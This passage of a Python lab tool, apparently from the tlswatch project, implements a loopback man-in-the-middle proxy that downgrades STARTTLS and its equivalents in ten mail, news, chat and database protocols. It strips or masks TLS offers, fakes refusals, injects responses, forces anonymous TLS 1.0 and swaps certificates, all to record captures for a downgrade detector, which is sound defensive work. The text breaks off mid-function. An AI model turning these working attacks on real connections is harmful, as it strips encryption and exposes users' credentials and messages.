#!/usr/bin/env python3
"""tools/lab/mitm.py - a man-in-the-middle for the tlswatch capture lab.

Listens on a loopback address and relays every connection to a real server
of the lab (postfix, dovecot, vsftpd, INN's nnrpd, InspIRCd, dovecot's
managesieved, Prosody, MariaDB, PostgreSQL), tampering with
the STARTTLS/STLS/AUTH TLS upgrade (and the binary database protocols'
equivalents) the way downgrade attackers and broken middleboxes do. It exists so that
pcaps/downgrade-*.pcap show both sides of a real attack: what the victim
client saw (victim <-> proxy) and what the server saw (proxy <-> server).
Python 3 standard library only; loopback only (10.0.0.0/8 is accepted too
inside a named network namespace, which a test made with ip netns).

  mitm.py --listen ADDR:PORT --upstream ADDR:PORT
          --proto smtp|imap|pop3|ftp|nntp|irc|sieve|xmpp|mysql|postgres
          --modes MODE[,MODE...] [--source ADDR] [--count N] [--ready FILE]
          [--cert FILE --key FILE]   (swap-cert)
  mitm.py --self-test

Each accepted connection takes the next mode of --modes (the last one
repeats), so "pass,strip" lets a first clean session through and strips the
second. The upstream connection is made from --source (default: the listen
address), so one capture filter `host ADDR` records both sides. With
--count N the proxy exits after its N-th connection has ended. --ready FILE
is written once the socket listens. SIGTERM or SIGINT stop it.

Modes (RFC 3207 SMTP STARTTLS, RFC 2595 IMAP STARTTLS and POP3 STLS, RFC
4217 FTP AUTH TLS, RFC 4642 NNTP STARTTLS, the IRCv3 "tls" capability and
STARTTLS extension; for FTP the upgrade command is AUTH TLS, AUTH SSL, AUTH
TLS-C or AUTH TLS-P, its go-ahead a 2xx reply, 234; for NNTP the go-ahead is
382; for IRC the offer is "tls" in the CAP LS (LIST, NEW) reply, the
go-ahead numeric 670, a refusal 691 or 421; RFC 5804 ManageSieve: the offer
is the "STARTTLS" capability line, the go-ahead OK, a refusal NO or BYE;
RFC 6120 XMPP: the offer is the <starttls xmlns='urn:ietf:params:xml:ns:
xmpp-tls'/> child of <stream:features>, the upgrade the client's
<starttls/>, the go-ahead <proceed/>, a refusal <failure/>; the streams are
read element by element, see below):
  pass            relay unchanged (the upgrade and TLS pass through)
  strip           remove STARTTLS/STLS from the capability lists: the EHLO
                  reply line, IMAP CAPABILITY and [CAPABILITY ...], POP3 CAPA,
                  the NNTP CAPABILITIES list; FTP: every " AUTH ..." line of
                  the FEAT reply; IRC: the "tls" token of CAP LS; ManageSieve:
                  the "STARTTLS" line; XMPP: the <starttls/> element (with
                  its <required/> if any) of <stream:features>
  mask            overwrite the keyword with X's of the same length, as some
                  firewalls do: 250-STARTTLS -> 250-XXXXXXXA, IMAP STARTTLS
                  -> XXXXXXXX, POP3 STLS -> XXXX, NNTP STARTTLS -> XXXXXXXX,
                  ManageSieve "STARTTLS" -> "XXXXXXXX", FTP FEAT " AUTH TLS"
                  -> " XXXX XXX", XMPP <starttls xmlns=...-tls'/> ->
                  <XXXXXXXX xmlns=...-tls'/> (start and end tag; the
                  client skips an element it does not know, so the effect
                  is a strip's; no middlebox is known to do this to XMPP:
                  it is the SMTP firewalls' trick, which tlswatch must
                  recognise wherever it turns up). Not for IRC: its
                  token "tls" would become "XXX", three letters that look
                  like any other capability name, not like a mask
  mask-command    overwrite the client's upgrade command with X's on its way
                  to the server (STARTTLS -> XXXXXXXX, STLS -> XXXX, AUTH TLS
                  -> XXXX XXX); the server's "unknown command" goes back to
                  the client
  refuse          answer the client's upgrade command itself (454 4.7.0 /
                  tag NO / -ERR / FTP 534 / NNTP 580 / IRC 691 / Sieve NO /
                  XMPP <failure/> and </stream:stream>, as Prosody closes a
                  stream it cannot secure), never forward it, keep relaying
                  cleartext
  accept-no-tls   answer the upgrade itself with the server's go-ahead text,
                  never forward it; answer the client's ClientHello with the
                  plaintext error a server gives to garbage; the client's
                  TLS fails and it hangs up. XMPP: the proxy's <proceed/>,
                  then Prosody's answer to a stream that does not begin
                  with XML (a new stream header with the id and domain of
                  the server's, a <not-well-formed/> stream error,
                  </stream:stream>), and it closes the victim's side.
                  IRC: InspIRCd says nothing to
                  garbage from a client that has not registered, so the
                  proxy says nothing either; the real server closes the
                  link after its registration timeout with its own ERROR
                  line, which the proxy relays to the victim
  break-tls       forward the upgrade, its go-ahead and the ClientHello;
                  corrupt the server's first handshake message (ServerHello,
                  type 2, becomes type 14, ServerHelloDone) so the client
                  aborts with a plaintext unexpected_message alert, which is
                  relayed to the server
  inject-response after the server's go-ahead, append a plaintext line in the
                  same segment (220 ... + "250 injected"; FTP 234 ... + "200
                  injected"; IRC 670 ... + NOTICE * :injected; XMPP
                  <proceed/> + <message from=DOMAIN><body>injected</body>
                  </message>), then relay TLS
  preauth         (imap) rewrite the greeting "* OK" to "* PREAUTH"
  weak-tls        answer the upgrade itself and terminate TLS with the victim
                  using TLS 1.0 and an anonymous key exchange
                  (TLS_ECDH_anon_WITH_AES_128_CBC_SHA: no certificate, so
                  nobody is authenticated), as an intercepting middlebox with an
                  old TLS stack would; relay the decrypted commands to the
                  server in cleartext (the server never sees STARTTLS)
  swap-cert       an intercepting proxy with a certificate of its own
                  (--cert FILE --key FILE, PEM; the recorder makes a
                  self-signed one per run, another key than the server's):
                  the upgrade command goes to the server; once the server's
                  go-ahead has been relayed, the proxy terminates the
                  victim's TLS itself (at most TLS 1.2, so its Certificate
                  message is in clear on the wire) and, once the victim's
                  handshake is done, makes its own TLS session (at most TLS
                  1.2, the victim's SNI if any, no certificate check) with
                  the server over the same connection; the decrypted
                  dialogue is relayed both ways. A victim whose handshake
                  fails (its alert is sent on) gets no TLS towards the
                  server: the proxy closes the server's connection after
                  the go-ahead. A victim that completes the handshake and
                  then refuses the certificate (Postfix with DANE: QUIT in
                  TLS, close_notify, FIN) has its QUIT relayed; the proxy
                  gives the server 5 s to close first, then sends its own
                  close_notify and FIN. A refusal by the server is relayed
                  and the victim goes on in cleartext. Not for FTP, XMPP,
                  MySQL, PostgreSQL

XMPP streams: each direction goes through an XmlFramer until TLS, which
cuts it into whole units however the bytes were read (the XML
declaration, the stream header, each complete child of the stream from
its start tag to its end tag, text between them), so a <stream:features>
or <starttls/> split over reads is handled whole. Quoted '>' inside
attribute values are skipped; comments pass as units; CDATA sections are
not (XMPP servers do not send them before TLS). `mitm.py --self-test`
feeds a Prosody-like opening to the framer cut in every fixed chunk size
and 200 random ways and checks the units, and what strip and mask make of
its features (tools/record-xmpp.sh runs it before recording). Not for XMPP: weak-tls
(refused) and preauth (IMAP only); break-tls goes through the same path
as for the line protocols, untried with a capture.

MySQL/MariaDB and PostgreSQL are binary and have fewer modes (others are
refused):
  mysql     pass, strip. The offer is CLIENT_SSL (0x0800) in the
            capability flags of the server's first packet, the Handshake
            (protocol 10); strip waits for that whole packet and clears the
            bit, so a client that uses TLS when offered (libmariadb's
            --ssl without a certificate check, pymysql with an ssl context)
            sends its HandshakeResponse41 in the clear. Everything else,
            both ways, is relayed as is. There is no refusal to fake (the
            client's SSLRequest gets no answer: TLS follows it at once),
            and no go-ahead either: accept-no-tls would only be a proxy
            answering a ClientHello with garbage, which breaks the
            connection without downgrading it.
  postgres  pass, refuse, accept-no-tls. The upgrade is the client's
            8-byte SSLRequest (length 8, code 80877103), the go-ahead the
            server's single byte S, a refusal N. refuse answers the
            SSLRequest with N itself, never forwards it, and relays the
            StartupMessage and everything after it (libpq with
            sslmode=prefer, its default, goes on in the clear on the same
            connection). accept-no-tls answers S itself and the ClientHello
            with an ErrorResponse (FATAL 08P01 "invalid length of startup
            packet": what PostgreSQL logs for such bytes, where it itself
            would only close), then closes the victim's side; libpq with
            sslmode=prefer then connects again without SSLRequest, which
            the next mode (the last one repeats: the StartupMessage is not
            an SSLRequest and goes through) relays. A GSSENCRequest is
            relayed like a StartupMessage.

FTP data connections: while the control connection is in cleartext, every
passive-mode reply of the server (227 Entering Passive Mode (h,h,h,h,p,p) and
229 Entering Extended Passive Mode (|||p|)) makes the proxy listen on its own
address, on the same port when it is free (another one otherwise), and tell
the victim that address instead of the server's; the one data connection
the victim makes there is relayed byte for byte to the server's port, from
--source, so the capture filter `host ADDR` records both sides of the data
connections too. The data is never tampered with.

Not handled: SMTP BDAT chunks and IMAP literals are relayed as lines (fine for
the lab's clients); commands pipelined before the upgrade command in the same
segment get their answers after the proxy's own answer (refuse,
accept-no-tls, weak-tls); a refusal by the real server is relayed, but the
proxy stops reading client lines after it; FTP active mode (PORT and EPRT
are relayed unchanged: they name the victim's address, which vsftpd refuses
as it is not the proxy's), FTP data connections announced after the upgrade
(inside TLS the proxy cannot see them) and weak-tls for FTP; IPv6; other
protocols. NNTP: an article a client posts is relayed as lines. IRC: the
proxy's 670/691 use the server name of the server's first line (the lab's
irc.tlswatch.test until the server has said anything) and "*" as the
target, which is what InspIRCd says before NICK; "sts" (a policy that
also asks for TLS) is left alone. XMPP: the offer is recognised by the
element's name and its TLS namespace given as an xmlns attribute on it (a
namespace declared by a prefix elsewhere is not followed).
"""
import argparse
import asyncio
import os
import re
import signal
import socket
import ssl
import struct
import sys
import warnings

MODES = ("pass", "strip", "mask", "mask-command", "refuse", "accept-no-tls", "break-tls",
         "inject-response", "preauth", "weak-tls", "swap-cert")

# weak-tls: TLS_ECDH_anon_WITH_AES_128_CBC_SHA (0xc018), with TLS 1.0 only.
WEAK_SUITE = "AECDH-AES128-SHA"

# swap-cert: the proxy's handshake timeout on either side, seconds.
SWAP_HANDSHAKE_TIMEOUT = 20.0

TLS_HANDSHAKE = 0x16
HS_SERVER_HELLO = 2
HS_SERVER_HELLO_DONE = 14

# What the proxy says when it answers in the server's place. The go-ahead and
# the answers to garbage are the lab servers' own texts (Postfix, Dovecot,
# vsftpd, INN, InspIRCd), so the victim cannot tell; the refusals use the
# codes of RFC 3207 (454), RFC 2595 (NO, -ERR) and RFC 2228 (534, "Request
# denied for policy reasons"), IRC's the text InspIRCd's starttls module
# sends without a TLS provider. IRC's %s is the server's name; its garbage
# reply is None: InspIRCd answers garbage with silence. ManageSieve's are
# Dovecot's (Pigeonhole): its refusal is what an instance without TLS says.
REFUSAL = {
    "smtp": b"454 4.7.0 TLS not available\r\n",
    "imap": b"%s NO [UNAVAILABLE] TLS not available\r\n",
    "pop3": b"-ERR TLS not available\r\n",
    "ftp": b"534 Request denied for policy reasons.\r\n",
    "nntp": b"580 Can not initiate TLS negotiation\r\n",
    "irc": b":%s 691 * :STARTTLS is not enabled\r\n",
    "sieve": b"NO \"TLS support isn't enabled.\"\r\n",
}
GO_AHEAD = {
    "smtp": b"220 2.0.0 Ready to start TLS\r\n",
    "imap": b"%s OK Begin TLS negotiation now.\r\n",
    "pop3": b"+OK Begin TLS negotiation now.\r\n",
    "ftp": b"234 Proceed with negotiation.\r\n",
    "nntp": b"382 Begin TLS negotiation now\r\n",
    "irc": b":%s 670 * :STARTTLS successful, go ahead with TLS handshake\r\n",
    "sieve": b"OK \"Begin TLS negotiation now.\"\r\n",
}
GARBAGE_REPLY = {
    "smtp": b"500 5.5.2 Error: command not recognized\r\n",
    "imap": b"* BAD Error in IMAP command received by server.\r\n",
    "pop3": b"-ERR Unknown command.\r\n",
    "ftp": b"530 Please login with USER and PASS.\r\n",
    "nntp": b"500 What?\r\n",
    "irc": None,
    "sieve": b"NO \"Error in MANAGESIEVE command received by server.\"\r\n",
}
INJECTED = {
    "smtp": b"250 injected\r\n",
    "imap": b"* OK injected\r\n",
    "pop3": b"+OK injected\r\n",
    "ftp": b"200 injected\r\n",
    "nntp": b"200 injected\r\n",
    "irc": b":%s NOTICE * :injected\r\n",
    "sieve": b"OK \"injected\"\r\n",
}
IRC_SERVER_NAME = b"irc.tlswatch.test"

# XMPP (RFC 6120 section 5): the proxy's own elements. The refusal, the
# go-ahead and the answer to garbage are Prosody 0.12's texts: its
# <failure/> and stream close when it cannot start TLS, its <proceed/>, and
# what it sends when a stream's first bytes are not XML (a new stream
# header with the id and domain of the stream it had, then a
# not-well-formed stream error; the %s are the id and the domain).
XMPP_TLS_NS = b"urn:ietf:params:xml:ns:xmpp-tls"
XMPP_REFUSAL = b"<failure xmlns='urn:ietf:params:xml:ns:xmpp-tls'/></stream:stream>"
XMPP_GO_AHEAD = b"<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"
XMPP_GARBAGE_REPLY = (b"<?xml version='1.0'?><stream:stream xmlns='jabber:client'"
                      b" xmlns:stream='http://etherx.jabber.org/streams' xml:lang='en'"
                      b" version='1.0' id='%s' from='%s'><stream:error><not-well-formed"
                      b" xmlns='urn:ietf:params:xml:ns:xmpp-streams'/></stream:error>"
                      b"</stream:stream>")
XMPP_INJECTED = b"<message from='%s'><body>injected</body></message>"
# MySQL/MariaDB: CLIENT_SSL in the capability flags of the server's
# initial Handshake (protocol 10).
MYSQL_CLIENT_SSL = 0x0800

# PostgreSQL (protocol 3.0, "SSL Session Encryption"): the client's 8-byte
# SSLRequest (length 8, code 80877103) and the server's one-byte answers.
PG_SSL_REQUEST = struct.pack("!II", 8, 80877103)
PG_REFUSAL = b"N"
PG_GO_AHEAD = b"S"
# accept-no-tls: an ErrorResponse where the ClientHello should be answered
# by a ServerHello. PostgreSQL itself answers nothing to such a startup
# packet (it logs "invalid length of startup packet" and closes); the
# proxy says it, in the server's message format (severity, code, message
# fields), so that the victim gets cleartext where TLS should be.
PG_GARBAGE_FIELDS = b"SFATAL\0VFATAL\0C08P01\0Minvalid length of startup packet\0\0"
PG_GARBAGE_REPLY = b"E" + struct.pack("!I", 4 + len(PG_GARBAGE_FIELDS)) + PG_GARBAGE_FIELDS

XML_NAME = rb"[^\s/>=]+"
XML_START_TAG = re.compile(rb"<(" + XML_NAME + rb")")
XMPP_STARTTLS_FEATURE = re.compile(
    rb"<((?:[^\s/>:]+:)?)starttls(?=[\s/>])([^>]*?)(?:/>|>.*?</\1starttls\s*>)", re.DOTALL)
XML_ATTR = rb"""\s%s\s*=\s*(?:'([^']*)'|"([^"]*)")"""

IMAP_CAPA = re.compile(rb"^(\* CAPABILITY |[^ ]+ OK \[CAPABILITY |\* (OK|PREAUTH) \[CAPABILITY )",
                       re.IGNORECASE)
IMAP_STARTTLS_TOKEN = re.compile(rb"(?i)(?<= )STARTTLS(?=[ \]\r\n])")
IMAP_STARTTLS_WORD = re.compile(rb"(?i) STARTTLS(?=[ \]\r\n])")
SMTP_STARTTLS_LINE = re.compile(rb"(?i)^250([- ])STARTTLS[ \t]*\r?\n$")
FTP_AUTH_MECHS = (b"TLS", b"SSL", b"TLS-C", b"TLS-P")
FTP_FEAT_AUTH = re.compile(rb"(?i)^ AUTH[ \t]")
FTP_FINAL = re.compile(rb"^[0-9]{3} ")
FTP_PASV = re.compile(rb"^227 .*?([0-9]+),([0-9]+),([0-9]+),([0-9]+),([0-9]+),([0-9]+)")
FTP_EPSV = re.compile(rb"^229 .*?\((.)\1\1([0-9]+)\1\)")
# IRCv3 capability lists: [":server "] "CAP" target LS|LIST|NEW ["*"] ":" list
IRC_CAP_LIST = re.compile(rb"^((?::[^ ]+ +)?CAP +[^ ]+ +(?:LS|LIST|NEW) +(?:\* +)?:)(.*?)(\r?\n)$",
                          re.IGNORECASE)


def log(msg):
    print("mitm: %s" % msg, file=sys.stderr, flush=True)


def split_lines(buf):
    """Complete lines (with their LF) and the unterminated rest."""
    lines = []
    start = 0
    while True:
        nl = buf.find(b"\n", start)
        if nl < 0:
            return lines, buf[start:]
        lines.append(buf[start:nl + 1])
        start = nl + 1


async def read_or_reset(reader):
    """The next chunk; b"" at the end of the stream, None when it was reset."""
    try:
        return await reader.read(65536)
    except ConnectionResetError:
        return None


def half_close(writer):
    """Passes an orderly end (FIN) on to the other side."""
    try:
        if writer.can_write_eof():
            writer.write_eof()
    except OSError:
        pass


def reset(writer):
    """Passes a reset (RST) on to the other side: close with a zero linger."""
    sock = writer.get_extra_info("socket")
    if sock is not None:
        try:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass
    writer.transport.abort()


def xml_tag_end(buf, start):
    """The index after the '>' that ends the markup starting at buf[start]
    ('<'), skipping quoted attribute values; None while it is incomplete."""
    if buf.startswith(b"<!--", start):
        end = buf.find(b"-->", start + 4)
        return None if end < 0 else end + 3
    quote = None
    for i in range(start + 1, len(buf)):
        c = buf[i]
        if quote is not None:
            if c == quote:
                quote = None
        elif c in (0x22, 0x27):
            quote = c
        elif c == 0x3e:
            return i + 1
    return None


def xml_local(tag):
    """The local name of a start or end tag (its prefix dropped)."""
    m = XML_START_TAG.match(tag.replace(b"</", b"<", 1))
    return m.group(1).rsplit(b":", 1)[-1] if m else b""


def xml_attr(tag, name):
    m = re.search(XML_ATTR % re.escape(name), tag)
    if not m:
        return None
    return m.group(1) if m.group(1) is not None else m.group(2)


class XmlFramer:
    """Cuts an XMPP stream into whole units, whatever the reads: the XML
    declaration, the stream header (also a new one at a stream restart),
    each complete child of the stream (a stanza, <stream:features>,
    <starttls/> ...: everything from its start tag to its end tag), text
    between them and the stream's end tag. Each unit is (kind, bytes) with
    kind "decl", "open", "element", "text" or "close"; the bytes of an
    unfinished unit wait for the next chunk."""

    def __init__(self):
        self.rest = b""

    def feed(self, data):
        buf = self.rest + data
        units = []
        i = 0
        while i < len(buf):
            if buf[i] != 0x3c:
                j = buf.find(b"<", i)
                j = len(buf) if j < 0 else j
                units.append(("text", buf[i:j]))
                i = j
                continue
            end = self.element_end(buf, i)
            if end is None:
                break
            tag = buf[i:xml_tag_end(buf, i)]
            if tag.startswith(b"<?"):
                kind = "decl"
            elif tag.startswith(b"</"):
                kind = "close"
            elif xml_local(tag) == b"stream" and not tag.endswith(b"/>"):
                kind = "open"
            else:
                kind = "element"
            units.append((kind, buf[i:end]))
            i = end
        self.rest = buf[i:]
        return units

    @staticmethod
    def element_end(buf, start):
        """The end of the unit starting at buf[start] ('<'): a declaration,
        comment, end tag, stream header or empty element ends with its own
        tag; other elements with the end tag that closes them."""
        end = xml_tag_end(buf, start)
        if end is None:
            return None
        tag = buf[start:end]
        if (tag.startswith((b"<?", b"<!", b"</")) or tag.endswith(b"/>")
                or xml_local(tag) == b"stream"):
            return end
        depth = 1
        i = end
        while depth:
            i = buf.find(b"<", i)
            if i < 0:
                return None
            j = xml_tag_end(buf, i)
            if j is None:
                return None
            inner = buf[i:j]
            if inner.startswith(b"</"):
                depth -= 1
            elif not inner.startswith((b"<?", b"<!")) and not inner.endswith(b"/>"):
                depth += 1
            i = j
        return i


class Relay:
    """One victim connection and its upstream connection."""

    def __init__(self, args, mode, number, c_reader, c_writer):
        self.args = args
        self.proto = args.proto
        self.mode = mode
        self.number = number
        self.cr, self.cw = c_reader, c_writer
        self.sr = self.sw = None
        self.c2s = "plain"      # plain: line by line; raw: bytes; swallow: dropped
        self.s2c = "plain"
        if self.proto == "mysql":
            self.c2s = "raw"    # only the server's Handshake is touched
        if self.proto == "postgres":
            self.s2c = "raw"    # only the client's SSLRequest is touched
        self.c2s_rest = b""
        self.s2c_rest = b""
        self.upgrade_tag = None  # the upgrade command forwarded, its reply not seen yet
        self.in_capa = False     # POP3: inside a CAPA response
        self.in_feat = False     # FTP: FEAT sent, its reply not complete yet
        self.data_servers = []   # FTP: listeners for announced passive data connections
        self.data_tasks = []     # FTP: relays of data connections
        self.greeted = False
        self.server_name = None  # IRC: the prefix of the server's first line
        self.first_tls = b""     # break-tls: server TLS bytes held until the type byte
        self.broken = False
        self.tls_victim = None   # weak-tls: (SSLObject, incoming, outgoing) towards the victim
        self.tls_pending = b""   # weak-tls: victim bytes that came with STARTTLS
        self.tls_up = asyncio.Event()
        self.upgrade_decided = asyncio.Event()  # swap-cert: the server answered the upgrade
        self.victim_done = asyncio.Event()      # swap-cert: the victim's handshake ended
        self.victim_ok = False
        self.victim_sni = None
        self.upstream_up = asyncio.Event()      # swap-cert: TLS with the server is up
        self.upstream_tls = False
        self.server_done = asyncio.Event()      # swap-cert: pump_s2c has ended
        self.xml_c = XmlFramer()  # XMPP: the victim's stream, in whole units
        self.xml_s = XmlFramer()  # XMPP: the server's
        self.stream_id = b""      # XMPP: the id and from of the server's stream header
        self.stream_from = b""
        self.garbage_answered = False  # accept-no-tls (XMPP, PostgreSQL): answer sent

    # ------------------------------------------------------------ upgrade words

    def upgrade_command(self, line):
        """The tag (b"" for SMTP/POP3) when line is the upgrade command."""
        words = line.split()
        if self.proto == "smtp" and len(words) == 1 and words[0].upper() == b"STARTTLS":
            return b""
        if self.proto == "pop3" and len(words) == 1 and words[0].upper() == b"STLS":
            return b""
        if self.proto == "nntp" and len(words) == 1 and words[0].upper() == b"STARTTLS":
            return b""
        if self.proto == "imap" and len(words) == 2 and words[1].upper() == b"STARTTLS":
            return words[0]
        if (self.proto == "ftp" and len(words) == 2 and words[0].upper() == b"AUTH"
                and words[1].upper() in FTP_AUTH_MECHS):
            return b""
        if self.proto == "irc" and len(words) == 1 and words[0].upper() == b"STARTTLS":
            return b""
        if self.proto == "sieve" and len(words) == 1 and words[0].upper() == b"STARTTLS":
            return b""
        return None

    def masked_command(self, line, tag):
        if self.proto == "ftp":
            return re.sub(rb"[^ \t\r\n]", b"X", line.rstrip(b"\r\n")) + b"\r\n"
        word = b"STLS" if self.proto == "pop3" else b"STARTTLS"
        masked = b"X" * len(word)
        return (tag + b" " + masked if tag else masked) + b"\r\n"

    def reply_final(self, line):
        """For the reply to the pending upgrade: None while it continues,
        True when it accepts, False when it refuses."""
        if self.proto == "smtp":
            if len(line) >= 4 and line[3:4] == b"-":
                return None
            return line[:1] == b"2"
        if self.proto == "pop3":
            return line.startswith(b"+OK")
        if self.proto == "ftp":
            # RFC 959 multi-line replies: "234-..." lines, then "234 ...".
            if not FTP_FINAL.match(line):
                return None
            return line[:1] == b"2"
        if self.proto == "nntp":
            return line[:4] == b"382 "
        if self.proto == "sieve":
            # RFC 5804: OK, NO or BYE end a response; other lines are data.
            word = line.split(b" ", 1)[0].rstrip(b"\r\n").upper()
            if word not in (b"OK", b"NO", b"BYE"):
                return None
            return word == b"OK"
        if self.proto == "irc":
            # Numerics answer in any order: only 670 and 691/421 decide.
            words = line.split()
            if words and words[0].startswith(b":"):
                words = words[1:]
            if not words or words[0] not in (b"670", b"691", b"421"):
                return None
            return words[0] == b"670"
        if line.startswith(self.upgrade_tag + b" "):
            return line[len(self.upgrade_tag) + 1:].upper().startswith(b"OK")
        return None

    def fill(self, template, tag):
        if self.proto == "irc":
            return template % (self.server_name or IRC_SERVER_NAME)
        return template % tag if b"%s" in template else template

    # ------------------------------------------------------------ server lines

    def server_line(self, line, out):
        """Appends what the victim gets for one server line to out."""
        if self.mode == "preauth" and not self.greeted and line[:5].upper() == b"* OK ":
            line = b"* PREAUTH " + line[5:]
        self.greeted = True
        if self.proto == "irc" and self.server_name is None and line.startswith(b":"):
            self.server_name = line[1:].split(b" ", 1)[0]
        if self.mode in ("strip", "mask"):
            line = self.tamper_capability(line, out)
            if line is None:
                return
        out.append(line)

    def tamper_capability(self, line, out):
        if self.proto == "smtp":
            m = SMTP_STARTTLS_LINE.match(line)
            if not m:
                return line
            if self.mode == "mask":
                return b"250" + m.group(1) + b"XXXXXXXA\r\n"
            if m.group(1) == b" " and out and out[-1][3:4] == b"-":
                # STARTTLS closed the reply: the line before now closes it.
                out[-1] = out[-1][:3] + b" " + out[-1][4:]
            return None
        if self.proto == "pop3":
            if line.rstrip(b"\r\n").upper() == b"STLS" and self.in_capa:
                return b"XXXX\r\n" if self.mode == "mask" else None
            return line
        if self.proto == "nntp":
            if line.strip().upper() == b"STARTTLS" and self.in_capa:
                return b"XXXXXXXX\r\n" if self.mode == "mask" else None
            return line
        if self.proto == "sieve":
            # The capability lines of the greeting (and of CAPABILITY).
            if line.strip().upper() == b'"STARTTLS"':
                return b'"XXXXXXXX"\r\n' if self.mode == "mask" else None
            return line
        if self.proto == "irc":
            m = IRC_CAP_LIST.match(line)
            if not m:
                return line
            caps = [c for c in m.group(2).split(b" ")
                    if c and c.split(b"=", 1)[0] != b"tls"]
            return m.group(1) + b" ".join(caps) + m.group(3)
        if self.proto == "ftp":
            if not self.in_feat or not FTP_FEAT_AUTH.match(line):
                return line
            if self.mode == "mask":
                return b" " + re.sub(rb"[^ \t\r\n]", b"X", line[1:])
            return None
        if not IMAP_CAPA.match(line):
            return line
        if self.mode == "mask":
            return IMAP_STARTTLS_TOKEN.sub(b"XXXXXXXX", line)
        return IMAP_STARTTLS_WORD.sub(b"", line)

    async def from_server(self, data):
        """Handles a chunk from the server; returns bytes for the victim."""
        if self.s2c == "raw":
            return self.break_handshake(data) if self.mode == "break-tls" else data
        if self.proto == "xmpp":
            return self.xmpp_from_server(data)
        if self.proto == "mysql":
            return self.mysql_from_server(data)
        lines, self.s2c_rest = split_lines(self.s2c_rest + data)
        out = []
        for i, line in enumerate(lines):
            if self.proto in ("pop3", "nntp") and self.in_capa and line.rstrip(b"\r\n") == b".":
                self.in_capa = False
            if self.proto == "ftp" and self.in_feat and FTP_FINAL.match(line):
                self.in_feat = False
            if self.proto == "ftp" and self.upgrade_tag is None:
                line = await self.ftp_passive(line)
            if self.upgrade_tag is not None:
                accepted = self.reply_final(line)
                if accepted is not None:
                    self.upgrade_tag = None
                    if accepted and self.mode == "swap-cert":
                        # The go-ahead in cleartext, then TLS on both sides
                        # (pump_c2s and pump_s2c); nothing follows it
                        # before the victim's ClientHello.
                        await self.to_victim(b"".join(out) + line)
                        self.s2c_rest = b""
                        self.c2s = "tls"
                        self.upstream_tls = True
                        self.upgrade_decided.set()
                        return b""
                    if accepted:
                        out.append(line)
                        if self.mode == "inject-response":
                            out.append(self.fill(INJECTED[self.proto], b""))
                        # Whatever follows is TLS (or injected by the server).
                        rest = b"".join(lines[i + 1:]) + self.s2c_rest
                        self.s2c_rest = b""
                        self.s2c = "raw"
                        if rest:
                            out.append(self.break_handshake(rest) if self.mode == "break-tls"
                                       else rest)
                        return b"".join(out)
                    if self.c2s == "await-upgrade":
                        # swap-cert, refused: the victim goes on in cleartext.
                        self.c2s = "plain"
                        self.upgrade_decided.set()
            self.server_line(line, out)
        return b"".join(out)

    # ------------------------------------------------------------ XMPP

    def xmpp_from_server(self, data):
        """The server's stream unit by unit (XmlFramer): the features lose
        (strip) or get a masked (mask) <starttls/>; the answer to a
        forwarded <starttls/> is watched for: after <proceed/> everything is
        relayed as is (inject-response: behind an element of the proxy's)."""
        units = self.xml_s.feed(data)
        out = []
        for i, (kind, unit) in enumerate(units):
            if kind == "open":
                self.stream_id = xml_attr(unit, b"id") or self.stream_id
                self.stream_from = xml_attr(unit, b"from") or self.stream_from
            if kind == "element" and self.upgrade_tag is not None:
                name = xml_local(unit)
                tag = unit[:xml_tag_end(unit, 0)]
                if name in (b"proceed", b"failure") and XMPP_TLS_NS in tag:
                    self.upgrade_tag = None
                    if name == b"proceed":
                        out.append(unit)
                        if self.mode == "inject-response":
                            out.append(XMPP_INJECTED % self.stream_from)
                        rest = b"".join(u for _, u in units[i + 1:]) + self.xml_s.rest
                        self.xml_s.rest = b""
                        self.s2c = "raw"
                        if rest:
                            out.append(self.break_handshake(rest) if self.mode == "break-tls"
                                       else rest)
                        return b"".join(out)
            if (kind == "element" and self.mode in ("strip", "mask")
                    and xml_local(unit) == b"features"):
                unit = XMPP_STARTTLS_FEATURE.sub(self.xmpp_tamper_starttls, unit)
            out.append(unit)
        return b"".join(out)

    def xmpp_tamper_starttls(self, m):
        """The <starttls/> of the features, in the TLS namespace: nothing
        (strip), or the same element with its name overwritten by X's in
        the start and end tags (mask)."""
        whole, prefix = m.group(0), m.group(1)
        if XMPP_TLS_NS not in m.group(2):
            return whole
        if self.mode == "strip":
            log("#%d: <starttls/> removed from the features" % self.number)
            return b""
        log("#%d: <starttls/> masked in the features" % self.number)
        return (whole.replace(b"<" + prefix + b"starttls", b"<" + prefix + b"XXXXXXXX", 1)
                .replace(b"</" + prefix + b"starttls", b"</" + prefix + b"XXXXXXXX"))

    async def xmpp_from_client(self, data):
        """The victim's stream unit by unit: its <starttls/> is forwarded
        (then everything after it as is), answered by the proxy (refuse,
        accept-no-tls) or overwritten (mask-command)."""
        units = self.xml_c.feed(data)
        out = []
        for i, (kind, unit) in enumerate(units):
            if kind != "element" or xml_local(unit) != b"starttls":
                out.append(unit)
                continue
            rest = b"".join(u for _, u in units[i + 1:]) + self.xml_c.rest
            self.xml_c.rest = b""
            if self.mode == "refuse":
                log("#%d: refusing the upgrade" % self.number)
                await self.to_victim(XMPP_REFUSAL)
                if rest:
                    out.append(await self.xmpp_from_client(rest))
                return b"".join(out)
            if self.mode == "accept-no-tls":
                log("#%d: accepting the upgrade, no TLS follows" % self.number)
                await self.to_victim(XMPP_GO_AHEAD)
                self.c2s = "swallow"
                if rest:
                    await self.to_victim(self.xmpp_garbage_reply())
                return b"".join(out)
            if self.mode == "mask-command":
                log("#%d: masking the client's upgrade command" % self.number)
                out.append(unit.replace(b"starttls", b"XXXXXXXX"))
                if rest:
                    out.append(await self.xmpp_from_client(rest))
                return b"".join(out)
            self.upgrade_tag = b""
            out.append(unit)
            self.c2s = "raw"
            out.append(rest)
            return b"".join(out)
        return b"".join(out)

    # ------------------------------------------------------------ MySQL

    def mysql_from_server(self, data):
        """The server's first packet, the Handshake, whole: strip clears
        CLIENT_SSL in its capability flags (lower two bytes, after the
        server version, the connection id, 8 bytes of scramble and a
        filler byte); everything after it is relayed as is."""
        buf = self.s2c_rest + data
        if len(buf) < 4 or len(buf) < 4 + int.from_bytes(buf[:3], "little"):
            self.s2c_rest = buf
            return b""
        self.s2c_rest = b""
        self.s2c = "raw"
        end = 4 + int.from_bytes(buf[:3], "little")
        packet = bytearray(buf[:end])
        nul = packet.find(b"\0", 5)
        at = nul + 1 + 4 + 8 + 1
        if self.mode == "strip" and packet[4] == 10 and nul > 0 and at + 2 <= end:
